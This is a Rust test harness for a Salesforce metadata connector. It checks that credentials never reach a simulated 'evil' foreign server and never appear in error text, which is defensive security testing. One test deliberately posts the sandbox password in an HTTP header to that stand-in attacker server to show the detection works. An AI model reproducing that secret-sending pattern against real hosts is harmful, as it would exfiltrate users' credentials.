//! One run under attack.

use std::io;
use std::net::IpAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use async_trait::async_trait;
use hybrid_runner_connector::{
    Baseline, Checkpoint, DefinitionError, Entity, EntitySink, Extraction, Notice, Progress, Report, SinkClosed,
    Source as _, SourceError,
};
use hybrid_runner_openmetadata::workflow::Workflow;
use hybrid_runner_salesforce::{HostPolicy, LocalConfig, LocalHost, Lookup, SalesforceSource};
use hybrid_runner_secrets::{MemoryStore, Policy, Resolver, SecretValue, Stores};
use sandbox::{Org, OrgConfig, Sandbox, SandboxHandle, ServerConfig};
use serde_json::{Value, json};

use crate::evil::{Authority, Evil};

/// What begins each session id of the sandbox, and of the servers here.
pub(crate) const SESSION: &str = "!AQEA.";

/// Answers of a name server: one after the other, the last one again and again; and the names that it was asked for.
#[derive(Debug, Clone, Default)]
pub(crate) struct Names {
    answers: Arc<Mutex<Vec<Vec<IpAddr>>>>,
    pub(crate) asked: Arc<Mutex<Vec<String>>>,
}

impl Names {
    pub(crate) fn answering(answers: &[&[&str]]) -> Self {
        let parse = |answer: &&[&str]| answer.iter().map(|address| address.parse().unwrap()).collect();
        Self { answers: Arc::new(Mutex::new(answers.iter().map(parse).collect())), asked: Arc::default() }
    }
}

#[async_trait]
impl Lookup for Names {
    async fn addresses(&self, name: &str) -> io::Result<Vec<IpAddr>> {
        self.asked.lock().unwrap().push(name.to_owned());
        if name == "localhost" {
            return Ok(vec![IpAddr::from([127, 0, 0, 1])]);
        }
        let mut answers = self.answers.lock().unwrap();
        Ok(if answers.len() > 1 { answers.remove(0) } else { answers.first().cloned().unwrap_or_default() })
    }
}

/// A login.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Kind {
    Soap,
    Oauth,
}

pub(crate) const LOGINS: [Kind; 2] = [Kind::Soap, Kind::Oauth];

/// What a run is started with.
pub(crate) struct Attack {
    pub(crate) authority: Authority,
    pub(crate) org: SandboxHandle,
    /// Where no byte may go.
    pub(crate) foreign: Evil,
    pub(crate) names: Names,
    /// Ports of `localhost` that are listed.
    pub(crate) listed: Vec<u16>,
    pub(crate) policy: Option<Policy>,
    pub(crate) call_timeout: Duration,
}

#[derive(Default)]
struct Sink;

#[async_trait]
impl EntitySink for Sink {
    async fn emit(&mut self, _entities: Vec<Entity>, _checkpoint: Checkpoint) -> Result<(), SinkClosed> {
        Ok(())
    }

    fn notice(&mut self, _notice: Notice) {}
}

impl Attack {
    pub(crate) async fn new() -> Self {
        let authority = Authority::new();
        let config = OrgConfig { objects: 2, fields_per_object: Some(3), ..OrgConfig::default() };
        let org = Sandbox::start(Org::generate(&config), ServerConfig::default()).await.unwrap();
        let foreign = Evil::silent(&authority).await;
        // Every name leads to this machine, where the foreign server is.
        let names = Names::answering(&[&["127.0.0.1"]]);
        let call_timeout = LocalConfig::default().call_timeout;
        Self { authority, org, foreign, names, listed: Vec::new(), policy: None, call_timeout }
    }

    pub(crate) fn local(&self) -> LocalConfig {
        let ca = Some(self.authority.pem().into_bytes());
        let listed =
            self.listed.iter().map(|port| LocalHost { host: "localhost".to_owned(), port: *port, ca: ca.clone() });
        let hosts = HostPolicy::new(listed.collect()).unwrap();
        let lookup = Arc::new(self.names.clone());
        let call_timeout = self.call_timeout;
        LocalConfig {
            hosts,
            use_system_proxy: false,
            definitions_are_local: true,
            lookup,
            call_timeout,
            ..LocalConfig::default()
        }
    }

    pub(crate) fn plan(&self, domain: &str, kind: Kind) -> Result<SalesforceSource, DefinitionError> {
        let own = self.org.credentials();
        let mut connection = json!({
            "type": "Salesforce", "salesforceDomain": domain, "sslConfig": {"caCertificate": "secret:/sf/ca"}
        });
        let login: Value = match kind {
            Kind::Soap => {
                json!({"username": own.username, "password": "secret:/sf/password", "securityToken": "secret:/sf/token"})
            }
            Kind::Oauth => json!({"consumerKey": own.consumer_key, "consumerSecret": "secret:/sf/secret"}),
        };
        let both = connection.as_object_mut().unwrap();
        both.extend(login.as_object().unwrap().clone());
        let workflow = json!({"source": {
            "type": "salesforce", "serviceName": "sf", "serviceConnection": {"config": connection},
            "sourceConfig": {"config": {"type": "DatabaseMetadata"}}
        }});
        SalesforceSource::plan(&Workflow::from_value(workflow).unwrap(), &self.local())
    }

    /// Every secret there is, by its path.
    pub(crate) fn values(&self) -> [(&'static str, String); 4] {
        let own = self.org.credentials();
        [
            ("/sf/password", own.password),
            ("/sf/token", own.security_token),
            ("/sf/secret", own.consumer_secret),
            ("/sf/ca", self.authority.pem()),
        ]
    }

    pub(crate) async fn run(&self, source: &SalesforceSource) -> Result<Report, SourceError> {
        let policy = self.policy.clone().unwrap_or_else(|| self.local().policy());
        let values = self.values().into_iter();
        let store =
            values.fold(MemoryStore::default(), |store, (path, value)| store.with(path, SecretValue::new(value)));
        let stores = Arc::new(Stores::default().with("memory", store));
        let extraction = Extraction {
            secrets: Arc::new(Resolver::new(stores, Arc::new(policy), None)),
            start: None,
            baseline: Arc::new(Baseline::default()),
            full: false,
            progress: Arc::new(Progress::default()),
        };
        source.extract(extraction, &mut Sink).await
    }

    /// Plans and runs; the error's text holds no secret.
    pub(crate) async fn error(&self, domain: &str, kind: Kind) -> SourceError {
        let error = match self.run(&self.plan(domain, kind).unwrap()).await {
            Ok(report) => panic!("{domain} was read: {report:?}"),
            Err(error) => error,
        };
        let own = self.org.credentials();
        for secret in [own.password.as_str(), &own.security_token, &own.consumer_secret, SESSION] {
            assert!(!format!("{error:?}").contains(secret), "{error:?}");
        }
        error
    }

    pub(crate) fn assert_nothing_went_elsewhere(&self, case: &str) {
        assert_eq!(self.foreign.connections(), 0, "{case}");
    }
}

/// The watch is worth something: what is sent to the foreign server is seen there.
#[tokio::test]
async fn a_secret_that_is_sent_to_the_foreign_server_is_found_there() {
    let attack = Attack::new().await;
    let ca = reqwest::Certificate::from_pem(attack.authority.pem().as_bytes()).unwrap();
    let client = reqwest::Client::builder().no_proxy().tls_certs_only([ca]).build().unwrap();
    let password = attack.org.credentials().password;
    for address in [format!("https://localhost:{}", attack.foreign.port()), format!("http://{}", attack.foreign.addr)] {
        let sent = client.post(address).header("x-password", &password).send().await;
        assert!(sent.is_err(), "it answers nothing");
    }
    assert_eq!(attack.foreign.connections(), 2);
    assert!(attack.foreign.was_sent(&password));
}
